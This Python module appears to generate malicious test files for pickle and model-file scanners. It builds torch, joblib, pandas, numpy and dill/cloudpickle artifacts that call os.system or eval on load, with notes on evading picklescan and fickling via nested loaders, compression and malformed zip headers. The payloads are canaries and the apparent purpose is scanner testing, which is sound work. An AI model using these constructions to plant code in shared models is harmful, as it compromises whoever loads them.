"""Payloads inside model formats and nested loaders.

The payload is ordinary; where it sits is the evasion: a second unpickling
started by the first, torch zip/legacy/tar checkpoints (some malformed the way
only torch tolerates), joblib, pandas, numpy and dill/cloudpickle files.
"""

from __future__ import annotations

import builtins
import io
import os
import pickle
import types
import zlib
from pathlib import Path
from typing import Any

import cloudpickle
import joblib
import numpy as np
import pandas as pd
import torch

from . import containers
from .assembler import Call, Global, dumps
from .cases import MaliciousCase, dill_load, joblib_load, numpy_load, pandas_read_pickle, torch_load
from .dill_state import load_dill
from .registry import Canary, function_by_value, pickle_case, technique, write_file

# --- nested loaders: a second unpickling started by the first -----------------------------


@technique
def nested_pickle_loads(directory: Path, canary: Canary) -> MaliciousCase:
    inner = pickle.dumps(Call(os.system, canary.shell), protocol=2)
    return pickle_case(
        directory,
        "nested_pickle_loads",
        dumps(Call(pickle.loads, inner)),
        technique="pickle.loads of an inner pickle carried as a bytes argument: the payload "
        "lives one level down.",
        source="picklescan tests/data (pickle.loads, _pickle.loads); fickling PR #210 "
        "(nested pickle attacks).",
    )


@technique
def nested_pickle_zlib(directory: Path, canary: Canary) -> MaliciousCase:
    inner = zlib.compress(pickle.dumps(Call(os.system, canary.shell)))
    payload = Call(Global("_pickle", "loads"), Call(Global("zlib", "decompress"), inner))
    return pickle_case(
        directory,
        "nested_pickle_zlib",
        dumps(payload),
        technique="_pickle.loads(zlib.decompress(blob)): the inner pickle is compressed, so a "
        "scanner that recurses into literal bytes arguments still cannot read it.",
        source="picklescan tests/data (_pickle.loads); the inner-stream hiding of nested loads.",
    )


def _torch_checkpoint_bytes(payload: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(2), "config": payload}, buffer)
    return buffer.getvalue()


@technique
def torch_storage_load_from_bytes(directory: Path, canary: Canary) -> MaliciousCase:
    inner = _torch_checkpoint_bytes(Call(os.system, canary.shell))
    payload = Call(Global("torch.storage", "_load_from_bytes"), inner)
    return pickle_case(
        directory,
        "torch_storage_load_from_bytes",
        dumps(payload),
        technique="torch.storage._load_from_bytes(b) is torch.load(BytesIO(b), "
        "weights_only=False); torch writes this global itself when a tensor is pickled with "
        "plain pickle, so allowlists keep it. The inner checkpoint carries the payload.",
        source="picklescan tests/data (torch.serialization.load as a nested loader); the "
        "model-loading-path surface of 'The Art of Hide and Seek' (Liu et al., 2025).",
    )


@technique
def torch_load_nested(directory: Path, canary: Canary) -> MaliciousCase:
    inner = _torch_checkpoint_bytes(Call(os.system, canary.shell))
    stream = Call(Global("_io", "BytesIO"), inner)
    # torch.load(f, map_location, pickle_module): passing pickle_module (the pickle
    # module itself, imported by a REDUCE) switches the default weights_only to False.
    payload = Call(
        Global("torch.serialization", "load"),
        stream,
        None,
        Call(Global("importlib", "import_module"), "pickle"),
    )
    return pickle_case(
        directory,
        "torch_load_nested",
        dumps(payload),
        technique="torch.serialization.load(BytesIO(inner), None, pickle): an explicit "
        "pickle_module turns weights_only off, so the inner checkpoint's payload runs.",
        source="picklescan tests/data (torch.serialization.load); PyTorch docs: weights_only "
        "defaults to False when pickle_module is given.",
    )


@technique
def numpy_load_nested(directory: Path, canary: Canary) -> MaliciousCase:
    inner = io.BytesIO()
    np.save(inner, np.array([Call(os.system, canary.shell)], dtype=object), allow_pickle=True)
    stream = Call(Global("_io", "BytesIO"), inner.getvalue())
    payload = Call(Global("numpy", "load"), stream, None, True)  # allow_pickle=True
    return pickle_case(
        directory,
        "numpy_load_nested",
        dumps(payload),
        technique="numpy.load(BytesIO(npy), None, True) inside a pickle: a nested loader with "
        "allow_pickle switched on for an object-array .npy that carries the payload.",
        source="Nested loader calls (picklescan's torch.serialization.load entry) applied to "
        "numpy.load; numpy's allow_pickle warning.",
    )


# --- ML containers --------------------------------------------------------------------------


@technique
def torch_zip_data_pkl(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "torch_zip_data_pkl.pt"
    containers.torch_save_zip(
        {"state_dict": {"w": torch.ones(2)}, "config": Call(os.system, canary.shell)}, path
    )
    return MaliciousCase(
        name="torch_zip_data_pkl",
        technique="A regular torch.save zip checkpoint whose data.pkl holds a REDUCE object "
        "next to real tensors.",
        source="JFrog, 'Data Scientists Targeted by Malicious Hugging Face ML Models with "
        "Silent Backdoor' (2024, baller423/goober2); picklescan's totally-harmless-model test.",
        path=path,
        load=torch_load(path, weights_only=False),
    )


@technique
def torch_zip_bad_crc(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "torch_zip_bad_crc.pt"
    containers.torch_save_zip({"w": torch.ones(2), "config": Call(os.system, canary.shell)}, path)
    containers.corrupt_member_crc(path, containers.data_pkl_member(path))
    return MaliciousCase(
        name="torch_zip_bad_crc",
        technique="The torch checkpoint's data.pkl has a wrong CRC-32: Python's zipfile "
        "(every Python scanner) raises BadZipFile, torch.load ignores the CRC and runs it.",
        source="CVE-2025-10156 (JFrog, 'Unveiling 3 zero-day vulnerabilities in PickleScan', "
        "2025); picklescan tests/data2/malicious1_crc.zip.",
        path=path,
        load=torch_load(path, weights_only=False),
    )


@technique
def torch_zip_local_header_lie(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "torch_zip_local_header_lie.pt"
    containers.torch_save_zip({"w": torch.ones(2), "config": Call(os.system, canary.shell)}, path)
    member = containers.data_pkl_member(path)
    containers.rename_in_local_header(path, member, member.filename.replace("data.pkl", "data.txt"))
    return MaliciousCase(
        name="torch_zip_local_header_lie",
        technique="The local file header of data.pkl names another file (data.txt) than the "
        "central directory: Python's zipfile refuses the member, torch reads it.",
        source="ZIP parser differentials between scanners and torch's miniz reader, the class "
        "of CVE-2025-10156 and of nullifAI's container trick (ReversingLabs, 2025).",
        path=path,
        load=torch_load(path, weights_only=False),
    )


@technique
def torch_legacy_magic_number_payload(directory: Path, canary: Canary) -> MaliciousCase:
    magic = Call(builtins.eval, f"{canary.python} or {containers.TORCH_LEGACY_MAGIC_NUMBER}")
    path = containers.torch_legacy_file(
        directory / "torch_legacy_magic_number_payload.pt",
        magic_number_pickle=pickle.dumps(magic, protocol=2),
        result={"epoch": 1},
    )
    return MaliciousCase(
        name="torch_legacy_magic_number_payload",
        technique="A legacy (non-zip) torch file whose first pickle, the magic number, is "
        "computed by eval(payload or MAGIC): the file still loads as a checkpoint.",
        source="picklescan tests/data/pytorch_magic_bypass.pt (magic number via eval).",
        path=path,
        load=torch_load(path, weights_only=False),
    )


@technique
def torch_raw_pickle_as_bin(directory: Path, canary: Canary) -> MaliciousCase:
    path = write_file(directory / "pytorch_model.bin", pickle.dumps(Call(os.system, canary.shell)))
    return MaliciousCase(
        name="torch_raw_pickle_as_bin",
        technique="A plain pickle named pytorch_model.bin: torch.load falls back to the legacy "
        "format and unpickles the 'magic number' (the payload) before it can check it.",
        source="CVE-2025-10155 (JFrog: picklescan treated .bin/.pt as PyTorch and stopped when "
        "no magic number was found).",
        path=path,
        load=torch_load(path, weights_only=False),
    )


@technique
def torch_legacy_tar(directory: Path, canary: Canary) -> MaliciousCase:
    main = pickle.dumps({"epoch": 1, "config": Call(os.system, canary.shell)}, protocol=2)
    path = containers.torch_legacy_tar(directory / "torch_legacy_tar.pt", main)
    return MaliciousCase(
        name="torch_legacy_tar",
        technique="PyTorch's oldest checkpoint format, a tar of storages/tensors/pickle, which "
        "torch.load(weights_only=False) still reads; scanners that know zip and raw pickles "
        "do not open tar files.",
        source="The model-loading-path surface of 'The Art of Hide and Seek' (Liu et al., "
        "2025): framework load paths that scanners do not model.",
        path=path,
        load=torch_load(path, weights_only=False),
    )


@technique
def joblib_zlib_compressed(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "joblib_zlib_compressed.joblib"
    joblib.dump({"model": Call(os.system, canary.shell)}, path, compress=("zlib", 3))
    return MaliciousCase(
        name="joblib_zlib_compressed",
        technique="A zlib-compressed joblib file: the pickle is only visible after "
        "decompression, and joblib unpickles with its own pickle._Unpickler subclass.",
        source="joblib documentation (load runs arbitrary code); fickling's hook misses "
        "joblib's Unpickler subclass (fickling GHSA-wccx-j62j-r448 covered pickle's own "
        "entry points).",
        path=path,
        load=joblib_load(path),
    )


@technique
def pandas_xz_pickle(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "pandas_xz_pickle.pkl.xz"
    pd.to_pickle({"frame": Call(os.system, canary.shell)}, path)  # compression from suffix
    return MaliciousCase(
        name="pandas_xz_pickle",
        technique="pandas.read_pickle infers xz compression from the .xz suffix: the payload "
        "is inside an xz stream most scanners do not open.",
        source="pandas.read_pickle documentation (compression inferred, 'loading pickled data "
        "received from untrusted sources can be unsafe').",
        path=path,
        load=pandas_read_pickle(path),
    )


@technique
def npy_object_array(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "npy_object_array.npy"
    np.save(path, np.array([Call(os.system, canary.shell), 1.5], dtype=object), allow_pickle=True)
    return MaliciousCase(
        name="npy_object_array",
        technique="An object-dtype .npy: after the npy header the array is a pickle, run by "
        "np.load(allow_pickle=True).",
        source="CVE-2019-6446 (numpy.load allow_pickle); picklescan tests/data2/"
        "dns_exfiltration.npy.",
        path=path,
        load=numpy_load(path, allow_pickle=True),
    )


@technique
def npz_object_member(directory: Path, canary: Canary) -> MaliciousCase:
    path = directory / "npz_object_member.npz"
    np.savez(
        path,
        bias=np.zeros(3),
        weights=np.array([Call(os.system, canary.shell)], dtype=object),
    )
    return MaliciousCase(
        name="npz_object_member",
        technique="One object-dtype member in an .npz next to plain arrays; it is unpickled "
        "lazily when the member is indexed.",
        source="CVE-2019-6446 (numpy.load allow_pickle); picklescan tests/data2/object_arrays.npz.",
        path=path,
        load=numpy_load(path, allow_pickle=True, member="weights"),
    )


@technique
def npy_suffix_raw_pickle(directory: Path, canary: Canary) -> MaliciousCase:
    path = write_file(directory / "npy_suffix_raw_pickle.npy", dumps(Call(os.system, canary.shell)))
    return MaliciousCase(
        name="npy_suffix_raw_pickle",
        technique="A plain pickle named .npy: np.load(allow_pickle=True) finds no npy magic and "
        "falls back to pickle.load, while a scanner trusting the suffix parses it as npy.",
        source="numpy.load documentation (non-npy files are unpickled when allow_pickle); the "
        "loading-path surface of 'The Art of Hide and Seek' (Liu et al., 2025).",
        path=path,
        load=numpy_load(path, allow_pickle=True),
    )


@technique
def dill_function_by_value(directory: Path, canary: Canary) -> MaliciousCase:
    touch = function_by_value(f"def touch_canary():\n    {canary.python}\n", "touch_canary")
    data = load_dill().dumps(Call(touch))
    path = write_file(directory / "dill_function_by_value.pkl", data)
    return MaliciousCase(
        name="dill_function_by_value",
        technique="dill serialises a notebook function by value (dill._dill._create_code / "
        "_create_function rebuild its code object); a REDUCE calls it on load.",
        source="dill documentation (functions from __main__ are pickled by value); the code-"
        "object class of picklescan tests/data2/types_CodeType.pkl.",
        path=path,
        load=dill_load(path),
    )


def code_constructor_arguments(code: types.CodeType) -> tuple[Any, ...]:
    """The positional arguments that rebuild ``code`` with ``types.CodeType(...)``.

    The constructor's parameters change between Python versions; its text
    signature names them (``codestring`` is ``co_code``, ``constants`` ``co_consts``).
    """
    signature = types.CodeType.__text_signature__ or ""
    names = [n.strip().split("=")[0] for n in signature.strip("()").split(",")]
    attributes = {"codestring": "co_code", "constants": "co_consts"}
    return tuple(
        getattr(code, attributes.get(name, f"co_{name}")) for name in names if name and name != "/"
    )


@technique
def dill_load_type_code_construction(directory: Path, canary: Canary) -> MaliciousCase:
    load_type = Global("dill._dill", "_load_type")
    code = compile(canary.python, "<weights>", "exec")
    rebuilt = Call(Call(load_type, "CodeType"), *code_constructor_arguments(code))
    function = Call(Call(load_type, "FunctionType"), rebuilt, {})
    path = write_file(directory / "dill_load_type_code_construction.pkl", dumps(Call(function)))
    return MaliciousCase(
        name="dill_load_type_code_construction",
        technique="dill._dill._load_type(name) returns a type by name; with 'CodeType' and "
        "'FunctionType' it builds and calls a function. The only global is _load_type, "
        "which benign files written after `import dill` also contain (for slice, range...).",
        source="dill's type registry (dill.extend adds it to pickle's own dispatch); the "
        "code-object class of picklescan tests/data2/types_CodeType.pkl and cloudpickle "
        "_builtin_type('CodeType').",
        path=path,
        load=dill_load(path),
    )


@technique
def dill_eval_repr(directory: Path, canary: Canary) -> MaliciousCase:
    payload = Call(Global("dill._dill", "_eval_repr"), canary.python)
    path = write_file(directory / "dill_eval_repr.pkl", dumps(payload))
    return MaliciousCase(
        name="dill_eval_repr",
        technique="dill._dill._eval_repr(text) is eval(text); dill itself writes it for range, "
        "Ellipsis and NotImplemented, so 'dill's own helpers' allowlists include it.",
        source="dill's save_singleton (dill/_dill.py); the gadget-in-a-trusted-namespace class "
        "of picklescan's numpy/torch advisories (GHSA-f745-w6jp-hpxx, malicious22.pkl).",
        path=path,
        load=dill_load(path),
    )


@technique
def cloudpickle_function_by_value(directory: Path, canary: Canary) -> MaliciousCase:
    touch = function_by_value(f"def touch_canary():\n    {canary.python}\n", "touch_canary")
    return pickle_case(
        directory,
        "cloudpickle_function_by_value",
        cloudpickle.dumps(Call(touch)),
        technique="cloudpickle serialises a function by value (_make_function, "
        "_builtin_type('CodeType'), _function_setstate); a REDUCE calls it on load.",
        source="picklescan tests/data2/cloudpickle_codeinjection.pkl.",
    )
